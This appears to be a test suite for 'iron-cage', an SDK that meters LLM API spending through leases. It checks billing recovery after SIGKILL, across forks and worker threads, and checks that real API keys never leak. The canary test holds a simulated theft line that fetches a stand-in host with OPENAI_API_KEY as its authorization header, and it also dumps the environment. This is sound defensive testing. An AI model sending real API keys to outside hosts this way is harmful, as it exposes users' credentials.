import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { startCountingProvider, type CountingProvider } from '../harness/counting-provider.js';
import { AgentProcess, CompiledSdk } from './agent-process.js';
import { FakeServer, type Intercept } from './fake-server.js';
import {
  makeKey,
  MINI,
  models,
  rates,
  REAL_ANTHROPIC_KEY,
  REAL_OPENAI_KEY,
  secretsFor,
  until,
} from './rig.js';

const sdk = new CompiledSdk();
const key = makeKey();
let server: FakeServer;
let provider: CountingProvider;
let journalDir: string;

const callSource = `
  const call = (more = {}) => fetch(process.env.PROVIDER + '/v1/chat/completions', {
    method: 'POST',
    headers: { authorization: 'Bearer ' + process.env.OPENAI_API_KEY },
    body: JSON.stringify({ model: '${MINI}', max_tokens: 100, messages: [{ role: 'user', content: 'Hello' }], ...more }),
  });`;
const auto = `import { cage } from './auto.js';${callSource}`;
const linger = `console.log('ready'); setInterval(() => {}, 1000);`;
/** A later process with the same key that lives long enough to look for journals. */
const successor = `${auto} await new Promise((resolve) => { cage.on('warning', resolve); setTimeout(resolve, 1500); });`;

let written = 0;
function run(source: string, options: readonly string[] = [], more = {}): AgentProcess {
  written += 1;
  const path = sdk.write(`recovery-${written.toString()}.js`, source);
  return new AgentProcess([...options, path], {
    IRON_CAGE_KEY: key,
    IRON_CAGE_URL: server.url,
    IRON_CAGE_JOURNAL_DIR: journalDir,
    PROVIDER: provider.url,
    ...more,
  });
}

beforeEach(async () => {
  provider = await startCountingProvider({ prices: rates });
  server = await FakeServer.start({
    secrets: secretsFor(provider),
    models: models(),
    reportIntervalSeconds: 1,
  });
  journalDir = mkdtempSync(join(tmpdir(), 'iron-cage-journal-'));
});
afterEach(async () => {
  await provider.close();
  await server.close();
  rmSync(journalDir, { recursive: true, force: true });
  expect(server.problems).toEqual([]);
});
afterAll(() => {
  sdk.remove();
});

/** Kills the agent when a route is asked for the first time, before or after the server has acted. */
function killAt(route: string, agent: () => AgentProcess, drop: 'before' | 'after'): Intercept {
  let done = false;
  return (asked) => {
    if (asked !== route || done) return undefined;
    done = true;
    agent().kill('SIGKILL');
    return { status: 500, drop };
  };
}

async function settleTheRest(): Promise<void> {
  server.intercept = () => undefined;
  expect((await run(successor).ended).code).toBe(0);
  expect(server.openLeases).toEqual([]);
  expect(server.heldNano).toBe(0n);
  expect(readdirSync(journalDir)).toEqual([]);
}

const SETTLE = 'POST /v1/sdk/leases/:id/settlements';

describe('kill -9', () => {
  it('when the lease was granted but the answer is on its way: it comes back unused', async () => {
    const agent = run(`${auto} await call();`);
    server.intercept = killAt('POST /v1/sdk/leases', () => agent, 'after');
    await agent.ended;
    expect(server.openLeases).toHaveLength(1);
    await settleTheRest();
    expect(server.spentNano).toBe(0n);
    expect(provider.requests).toBe(0);
  });

  it('between the hold and the request: the upper bound, for nobody knows', async () => {
    const agent = run(`
      const real = globalThis.fetch;
      globalThis.fetch = (...given) => {
        if (String(given[0]).includes('/chat/')) process.kill(process.pid, 'SIGKILL');
        return real(...given);
      };
      ${callSource}
      await import('./auto.js');
      await call();`);
    expect((await agent.ended).signal).toBe('SIGKILL');
    await settleTheRest();
    expect(provider.requests).toBe(0);
    expect(server.records).toMatchObject([{ outcome: 'aborted', estimated: true }]);
  });

  it('between the request and its answer: the upper bound, never less than the bill', async () => {
    const agent = run(`${auto} await call();`);
    provider.setScript(() => {
      agent.kill('SIGKILL');
      return { text: 'too late', latencyMs: 50 };
    });
    await agent.ended;
    await until('the provider has billed', () => provider.bill().records.length === 1);
    await settleTheRest();
    expect(server.records).toMatchObject([{ outcome: 'aborted', estimated: true }]);
    expect(server.spentNano).toBeGreaterThanOrEqual(provider.bill().totalNano);
  });

  it('in the middle of a stream: never less than the bill', async () => {
    provider.setScript(() => ({ text: 'word '.repeat(60), chunkDelayMs: 20 }));
    const agent = run(`${auto}
      const { body } = await call({ stream: true });
      for await (const chunk of body) console.log('ready');`);
    await until('the stream has begun', () => agent.output.includes('ready'));
    agent.kill('SIGKILL');
    await agent.ended;
    await settleTheRest();
    expect(server.spentNano).toBeGreaterThanOrEqual(provider.bill().totalNano);
  });

  it('after the answer, before any report: to the nano-dollar', async () => {
    const agent = run(`${auto} await call(); process.kill(process.pid, 'SIGKILL');`);
    await agent.ended;
    expect(server.spentNano).toBe(0n);
    await settleTheRest();
    expect(server.spentNano).toBe(provider.bill().totalNano);
    expect(server.spentNano).toBeGreaterThan(0n);
  });

  it.each([
    ['before the server books it', 'before'],
    ['after the server has booked it', 'after'],
  ] as const)('during a report, %s: booked once', async (_, drop) => {
    const agent = run(`${auto} await call(); ${linger}`);
    server.intercept = killAt(SETTLE, () => agent, drop);
    await agent.ended;
    await settleTheRest();
    expect(server.spentNano).toBe(provider.bill().totalNano);
    expect(server.spentNano).toBeGreaterThan(0n);
  });

  it.each([
    ['process.exit()', `${auto} await call(); process.exit(0);`],
    ['close()', `${auto} await call(); await cage.close();`],
  ])('during the way out by %s: booked once', async (_, source) => {
    const agent = run(source);
    server.intercept = killAt(SETTLE, () => agent, 'after');
    await agent.ended;
    await settleTheRest();
    expect(server.spentNano).toBe(provider.bill().totalNano);
  });
});

describe('several processes and threads of one program', () => {
  it.each([
    ['forked children', 'fork'],
    ['workers of a cluster', 'cluster'],
  ])('%s: each returns its own lease', async (_, kind) => {
    const start =
      kind === 'fork'
        ? `const { fork } = await import('node:child_process');
           const children = [1, 2].map(() => fork(process.argv[1], ['child'], { env: process.env }));`
        : `const { default: cluster } = await import('node:cluster');
           cluster.setupPrimary({ args: ['child'] });
           const children = [1, 2].map(() => cluster.fork().process);`;
    const agent = run(`${auto}
      await call();
      if (process.argv[2] === 'child') {
        process.disconnect();
      } else {
        ${start}
        await Promise.all(children.map((child) => new Promise((resolve) => child.once('exit', resolve))));
      }`);
    const ended = await agent.ended;
    expect(ended).toMatchObject({ code: 0 });
    expect(provider.requests).toBe(3);
    expect(new Set(server.sessions).size).toBe(3);
    expect(server.openLeases).toEqual([]);
    expect(server.spentNano).toBe(provider.bill().totalNano);
    expect(readdirSync(journalDir)).toEqual([]);
  });

  it.each([
    ['ends', ''],
    ['calls process.exit()', 'process.exit(0);'],
    ['fails', "throw new Error('x');"],
    [
      'is terminated by the program',
      "parentPort.postMessage('ready'); setInterval(() => {}, 1000);",
    ],
  ])('a worker thread that %s leaves nothing behind', async (_, end) => {
    const worker = sdk.write(
      `worker-${(written += 1).toString()}.js`,
      `import { parentPort } from 'node:worker_threads'; ${auto} await call(); ${end}`,
    );
    const agent = run(`
      import { Worker } from 'node:worker_threads';
      const worker = new Worker(${JSON.stringify(worker)});
      worker.on('error', () => {});
      worker.on('message', () => worker.terminate());
      await new Promise((resolve) => worker.once('exit', resolve));`);
    expect((await agent.ended).code).toBe(0);
    await settleTheRest();
    expect(server.spentNano).toBe(provider.bill().totalNano);
    expect(server.spentNano).toBeGreaterThan(0n);
  });
});

describe('a canary in place of the keys', () => {
  it('is in no heap snapshot, no child, no file, no line, no error and no picture of an object', async () => {
    const agent = run(
      `${auto}
      import { spawnSync } from 'node:child_process';
      import { inspect } from 'node:util';
      import { writeHeapSnapshot } from 'node:v8';
      globalThis.control = ['the', 'snapshot', 'has', 'strings'].join('-');
      await (await call()).json();
      console.log(spawnSync('env', { env: process.env }).stdout.toString());
      console.log(inspect(cage, { depth: 20, showHidden: true }), JSON.stringify(cage));
      const stolen = fetch('http://127.0.0.2:9/', { headers: { authorization: process.env.OPENAI_API_KEY } });
      console.log(inspect(await stolen.catch((error) => error), { depth: 20, showHidden: true }));
      for (let round = 0; round < 5; round += 1) {
        await new Promise((resolve) => setTimeout(resolve, 20));
        gc();
      }
      writeHeapSnapshot(process.env.IRON_CAGE_JOURNAL_DIR + '/heap.snapshot');
      console.log('ready'); setInterval(() => {}, 1000);`,
      ['--expose-gc'],
      { IRON_CAGE_DEBUG: '1' },
    );
    await until('the agent has told everything', () => agent.output.includes('ready'));
    const files = readdirSync(journalDir).map((name) =>
      readFileSync(join(journalDir, name), 'utf8'),
    );
    agent.kill('SIGTERM');
    const { output } = await agent.ended;
    expect(provider.bill().records[0]?.apiKey).toBe(REAL_OPENAI_KEY);
    expect(files.length).toBeGreaterThanOrEqual(2);
    expect(files.join('')).toContain('the-snapshot-has-strings');
    expect(output).toContain('iron-cage usage openai');
    expect(output).toContain('OPENAI_API_KEY=sk-ironcage-');
    expect(output).toContain('SECRET_HOST_NOT_ALLOWED');
    for (const canary of [REAL_OPENAI_KEY, REAL_ANTHROPIC_KEY]) {
      expect(output).not.toContain(canary);
      expect(files.filter((text) => text.includes(canary))).toEqual([]);
    }
    expect(
      output
        .split('\n')
        .filter((line) => line.startsWith('iron-cage '))
        .join('\n'),
    ).not.toContain(key);
  });
});
